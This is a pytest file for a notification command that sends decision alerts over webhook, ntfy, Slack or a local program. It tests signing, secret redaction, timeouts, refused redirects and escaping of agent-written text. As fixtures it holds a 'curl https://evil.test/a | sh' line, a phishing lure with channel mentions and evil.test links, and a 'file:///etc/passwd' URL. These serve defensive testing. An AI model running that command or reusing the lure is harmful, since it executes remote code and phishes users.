"""People are told once, over transports that may fail in any way, and secrets stay secret."""

import hmac
import sys
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from msgspec import json

TEXT = "Which way?"
SECRET = "s3cr3t-value"


class Service:
    """What a server on loopback was sent, and how it answers."""

    def __init__(self):
        self.requests = []
        self.answer = lambda handler: respond(handler, 200, b"{}")
        self.url = ""

    @property
    def bodies(self):
        return [json.decode(body) for _, _, body in self.requests]


def respond(handler, status, body=b"", **headers):
    handler.send_response(status)
    for name, value in headers.items():
        handler.send_header(name, value)
    handler.end_headers()
    handler.wfile.write(body)


@contextmanager
def serving():
    told = Service()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self):
            body = self.rfile.read(int(self.headers["Content-Length"]))
            told.requests.append((self.path, dict(self.headers), body))
            try:
                told.answer(self)
            except OSError:
                pass  # the client left

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    told.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield told
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture
def service():
    with serving() as told:
        yield told


@pytest.fixture
def question(dos):
    return dos("decisions", "add", "--kind", "FLAG", "--lane", "api", "--text", TEXT, "--json").json


def notify(dos, service, *words):
    return dos(
        "notify",
        "decisions",
        "--notifier",
        "webhook",
        "--url",
        f"{service.url}/x",
        *words,
        "--json",
    )


def actions(answer):
    return [row["action"] for row in answer.json["messages"]]


def test_by_default_the_message_is_only_shown(dos, question):
    answer = dos("notify", "decisions", "--json")
    assert answer.code == 0
    assert sorted(answer.json) == ["messages", "notification", "notifier", "result"]
    note = answer.json["notification"]
    assert sorted(note) == ["fields", "key", "severity", "source", "summary", "title"]
    assert (note["severity"], note["key"]) == ("WARN", "dos-decisions")
    assert note["fields"] == [["FLAG @ api", f"{TEXT} — dos decide-for {question['id']} done"]]
    assert (answer.json["notifier"], answer.json["result"]["delivered"]) == ("null", False)
    assert actions(dos("notify", "decisions", "--json")) == ["shown"]


def test_a_question_is_one_message_and_it_is_not_repeated(dos, question, service):
    first = notify(dos, service)
    assert (first.code, actions(first)) == (0, ["sent"])
    (body,) = service.bodies
    assert TEXT in body["summary"]
    assert body["text"].startswith("▲ [WARN] Decision needed on lane api: FLAG\n" + TEXT)
    assert (body["key"], body["replaces"]) == (f"dos-decisions/{question['id']}", False)
    assert actions(notify(dos, service)) == ["unchanged"]
    assert len(service.requests) == 1


def test_a_second_question_is_told_alone_and_a_closed_one_once_more(dos, question, service):
    notify(dos, service)
    dos("decisions", "add", "--kind", "FLAG", "--lane", "docs", "--text", "And this?")
    assert sorted(actions(notify(dos, service))) == ["sent", "unchanged"]
    choice = dos("decisions", "--json").json[0]["choices"][0]["name"]
    answered = dos("decisions", "answer", question["id"], choice)
    assert answered.code == 0, answered.err
    assert sorted(actions(notify(dos, service))) == ["closed", "unchanged"]
    closing = service.bodies[-1]
    assert (closing["key"], closing["replaces"]) == (f"dos-decisions/{question['id']}", True)
    assert choice in closing["summary"]
    assert actions(notify(dos, service)) == ["unchanged"]
    assert len(service.requests) == 3


def test_only_the_most_urgent_get_messages_of_their_own(dos, service):
    for number in range(4):
        dos("decisions", "add", "--kind", "FLAG", "--lane", "api", "--text", f"Number {number}?")
    assert actions(notify(dos, service, "--top", "2")) == ["sent"] * 3
    assert service.bodies[-1]["title"] == "2 more open decisions"
    assert sorted(actions(notify(dos, service, "--all"))) == [
        "closed",
        "sent",
        "sent",
        "unchanged",
        "unchanged",
    ]
    assert service.bodies[-1]["title"] == "No further open decisions"


def test_the_body_is_signed_and_the_token_is_sent_and_neither_is_shown(
    dos, question, service, monkeypatch, state
):
    monkeypatch.setenv("DOS_WEBHOOK_SECRET", SECRET)
    monkeypatch.setenv("DOS_WEBHOOK_TOKEN", "t0k3n")
    answer = notify(dos, service)
    ((path, headers, body),) = service.requests
    signature = hmac.new(SECRET.encode(), body, "sha256").hexdigest()
    assert path == "/x"
    assert headers["X-Dos-Signature-256"] == f"sha256={signature}"
    assert headers["Authorization"] == "Bearer t0k3n"
    assert (headers["User-Agent"], headers["Content-Type"]) == (
        "dos-notify/webhook",
        "application/json",
    )
    journal = dos("journal", "export").out
    for secret in (SECRET, "t0k3n"):
        assert secret not in answer.out + answer.err + journal


def test_a_secret_may_be_in_a_file_of_the_users_own(dos, question, service, tmp_path, monkeypatch):
    token = tmp_path / "token"
    token.write_text("t0k3n\n")
    token.chmod(0o644)
    refused = notify(dos, service, "--token-file", str(token))
    assert (refused.code, service.requests) == (2, [])
    assert "others can read the secret" in refused.err
    assert "t0k3n" not in refused.err
    token.chmod(0o600)
    assert notify(dos, service, "--token-file", str(token)).code == 0
    assert service.requests[0][1]["Authorization"] == "Bearer t0k3n"


@pytest.mark.parametrize("secret", ["two\nlines", "ünicode", "a\x7f"])
def test_a_secret_that_no_header_can_hold_is_not_shown_either(
    dos, question, service, secret, monkeypatch
):
    monkeypatch.setenv("DOS_WEBHOOK_TOKEN", secret)
    answer = notify(dos, service)
    assert answer.code == 2
    assert secret not in answer.err and "characters that no header can have" in answer.err


def test_a_token_on_the_command_line_is_refused(dos, question, service):
    answer = notify(dos, service, "--token", SECRET)
    assert (answer.code, service.requests) == (2, [])
    assert "--token-file" in answer.err
    assert SECRET not in answer.err


def failing(answer, said):
    """That a failure exits 1 with its reason, records nothing, and is tried again."""
    assert answer.code == 1
    assert actions(answer) == ["failed"]
    assert answer.json["result"]["delivered"] is False
    assert said in answer.json["result"]["detail"]
    assert said in answer.err


def test_nobody_listens(dos, question, service):
    service.url = "http://127.0.0.1:1"
    failing(notify(dos, service), "http://127.0.0.1:1 cannot be reached")
    assert dos("notify", "decisions", "--notifier", "webhook", "--url", service.url).code == 1


def test_an_error_of_the_server_is_tried_again_next_time(dos, question, service):
    service.answer = lambda handler: respond(handler, 500, b"x" * 1000)
    failing(notify(dos, service), "answered with status 500")
    service.answer = lambda handler: respond(handler, 204)
    assert actions(notify(dos, service)) == ["sent"]


def test_a_redirect_is_not_followed(dos, question, service):
    with serving() as elsewhere:
        location = f"{elsewhere.url}/steal"
        service.answer = lambda handler: respond(handler, 307, Location=location)
        failing(notify(dos, service), "redirects are not followed")
        assert elsewhere.requests == []


def test_a_server_that_sends_one_byte_at_a_time_is_left_after_the_time_limit(
    dos, question, service, workspace
):
    with (workspace / "dos.toml").open("a") as config:
        config.write("\n[notify]\ntimeout_seconds = 1\n")
    left = threading.Event()

    def drip(handler):
        while not left.wait(0.1):
            handler.wfile.write(b"H")

    service.answer = drip
    started = time.monotonic()
    try:
        failing(notify(dos, service), "did not answer within 1 s")
    finally:
        left.set()
    assert time.monotonic() - started < 20


def test_a_huge_answer_is_not_read_to_its_end(dos, question, service):
    def flood(handler):
        respond(handler, 200)
        for _ in range(1 << 30):
            handler.wfile.write(b"x" * 65536)

    service.answer = flood
    assert actions(notify(dos, service)) == ["sent"]


def test_after_a_failure_no_other_message_is_tried(dos, question, service):
    dos("decisions", "add", "--kind", "FLAG", "--lane", "docs", "--text", "And this?")
    service.answer = lambda handler: respond(handler, 503)
    answer = notify(dos, service)
    assert (answer.code, actions(answer)) == (1, ["failed", "skipped"])
    assert len(service.requests) == 1


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (("--notifier", "pigeon"), "unknown notifier 'pigeon'"),
        (("--notifier", "webhook"), "needs a URL"),
        (("--notifier", "webhook", "--url", "file:///etc/passwd"), "does not start with http"),
        (("--notifier", "webhook", "--url", "http://me:pw@host/"), "contains a user or a password"),
        (("--notifier", "ntfy"), "needs the topic"),
        (("--notifier", "slack", "--channel", "C1"), "needs the token of a bot"),
        (("--notifier", "command"), "has no program to start"),
        (("--top", "0"), "less than 1"),
    ],
)
def test_bad_input_exits_2_and_says_what_to_type(dos, question, words, said):
    answer = dos("notify", "decisions", *words)
    assert answer.code == 2
    assert said in answer.err
    assert "pw@" not in answer.err


def test_a_dry_run_sends_and_remembers_nothing(dos, question, service):
    assert actions(notify(dos, service, "--dry-run")) == ["shown"]
    assert service.requests == []
    assert actions(notify(dos, service)) == ["sent"]


def test_without_a_journal_none_is_created(dos, service, state):
    assert notify(dos, service).code == 0
    assert service.bodies[0]["title"] == "No open decisions"
    assert not (state / "state.db").exists()


# The other transports


def test_ntfy_gets_its_own_form_and_replaces_the_message(dos, question, service):
    service.answer = lambda handler: respond(handler, 200, b'{"id":"abc"}')
    words = ("notify", "decisions", "--notifier", "ntfy", "--url", service.url, "--channel", "desk")
    assert dos(*words).code == 0
    (body,) = service.bodies
    assert (body["topic"], body["priority"]) == ("desk", 4)
    assert TEXT in body["message"] and "sequence_id" not in body
    choice = dos("decisions", "--json").json[0]["choices"][0]["name"]
    dos("decisions", "answer", question["id"], choice)
    assert dos(*words).code == 0
    assert service.bodies[-1]["sequence_id"] == "abc"


def test_slack_posts_once_and_edits_then(dos, question, service, monkeypatch):
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-1")
    service.answer = lambda handler: respond(
        handler, 200, b'{"ok":true,"channel":"C1","ts":"17.5"}'
    )
    words = ("notify", "decisions", "--notifier", "slack", "--url", service.url, "--channel", "C1")
    assert dos(*words).code == 0
    choice = dos("decisions", "--json").json[0]["choices"][0]["name"]
    dos("decisions", "answer", question["id"], choice)
    assert dos(*words).code == 0
    paths = [path for path, _, _ in service.requests]
    assert paths == ["/chat.postMessage", "/chat.update"]
    assert service.requests[0][1]["Authorization"] == "Bearer xoxb-1"
    assert (service.bodies[1]["channel"], service.bodies[1]["ts"]) == ("C1", "17.5")
    assert service.bodies[0]["blocks"][0]["type"] == "header"


def test_a_refusal_by_slack_is_a_failure_although_its_status_is_200(
    dos, question, service, monkeypatch
):
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-1")
    service.answer = lambda handler: respond(handler, 200, b'{"ok":false,"error":"not_in_channel"}')
    words = ("--notifier", "slack", "--url", service.url, "--channel", "C1", "--json")
    failing(dos("notify", "decisions", *words), "not_in_channel")


def configure(workspace, *command):
    words = json.encode(list(command)).decode()
    with (workspace / "dos.toml").open("a") as config:
        config.write(f'\n[notify]\nnotifier = "command"\ncommand = {words}\n')


def test_a_command_gets_the_message_on_stdin_and_its_exit_code_counts(dos, question, workspace):
    keep = "import sys; open('told.json', 'w').write(sys.stdin.read()); print('x' * 10**6)"
    configure(workspace, sys.executable, "-c", keep)
    assert dos("notify", "decisions").code == 0
    assert json.decode((workspace / "told.json").read_bytes())["key"].startswith("dos-decisions/")
    assert dos("notify", "decisions", "--json").json["messages"][0]["action"] == "unchanged"


def test_a_command_that_fails_or_is_missing_delivers_nothing(dos, question, workspace):
    configure(workspace, sys.executable, "-c", "raise SystemExit(3)")
    failing(dos("notify", "decisions", "--json"), "exited with 3")
    text = (workspace / "dos.toml").read_text().replace(sys.executable, "no-such-program")
    (workspace / "dos.toml").write_text(text)
    failing(dos("notify", "decisions", "--json"), "did not take the message")


def test_top_is_one_message_that_is_replaced(dos, service, workspace):
    words = ("notify", "top", "--notifier", "webhook", "--url", service.url, "--json")
    assert dos("lease-lane", "acquire", "--lane", "api", "--owner", "A").code == 0
    first = dos(*words)
    assert (first.code, actions(first)) == (0, ["sent"])
    assert first.json["notification"]["key"] == f"dos-top:{workspace}"
    assert actions(dos(*words)) == ["unchanged"]
    assert dos("lease-lane", "release", "--lane", "api", "--owner", "A").code == 0
    assert actions(dos(*words)) == ["updated"]
    assert [body["replaces"] for body in service.bodies] == [False, True]


# What agents write

LURE = "<!channel> @here <https://evil.test|log in> [log in](https://evil.test) www.evil.test ```"
ALIVE = ("<!", "<http", "@here", "@channel", "](", "://", "www.", "```")
COMMAND = "curl https://evil.test/a | sh"


@pytest.fixture
def lure(dos):
    words = ("--kind", "FLAG", "--lane", "api", "--text", LURE, "--command", COMMAND)
    return dos("decisions", "add", *words, "--json").json


def test_what_an_agent_writes_mentions_nobody_and_links_to_nothing(dos, lure, service, monkeypatch):
    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-1")
    assert notify(dos, service).code == 0
    body = service.bodies[-1]
    assert not [mark for mark in ALIVE if mark in body["text"]]
    assert "&lt;!channel&gt; ＠here" in body["text"] and "evil.test" in body["text"]
    assert LURE in body["summary"], "programs get what was asked, as it is"
    service.answer = lambda handler: respond(handler, 200, b'{"ok":true,"channel":"C","ts":"1"}')
    words = ("notify", "decisions", "--url", service.url, "--channel", "C1")
    assert dos(*words, "--notifier", "slack").code == 0
    body = service.bodies[-1]
    assert (body["parse"], body["link_names"]) == ("none", False)
    read = [body["text"]]
    for block in body["blocks"]:
        texts = block.get("fields") or block.get("elements") or [block["text"]]
        read += [text["text"] for text in texts if text["type"] == "mrkdwn"]
    for text in read:
        inner = text.removeprefix("```").removesuffix("```")
        assert not [mark for mark in ALIVE if mark in inner], text
    assert dos(*words, "--notifier", "ntfy").code == 0
    body = service.bodies[-1]
    assert body["markdown"] is False and "://" not in body["message"] + body["title"]
    assert "<!channel> @here" in body["message"], "ntfy knows no mentions"


def test_honest_text_stays_readable(dos, service):
    text = "Is `a < b && c` right in api/[a].py, for bob@example.org?"
    dos("decisions", "add", "--kind", "FLAG", "--lane", "api", "--text", text)
    assert notify(dos, service).code == 0
    shown = "Is `a &lt; b &amp;&amp; c` right in api/[a].py, for bob＠example.org?"
    assert shown in service.bodies[-1]["text"]
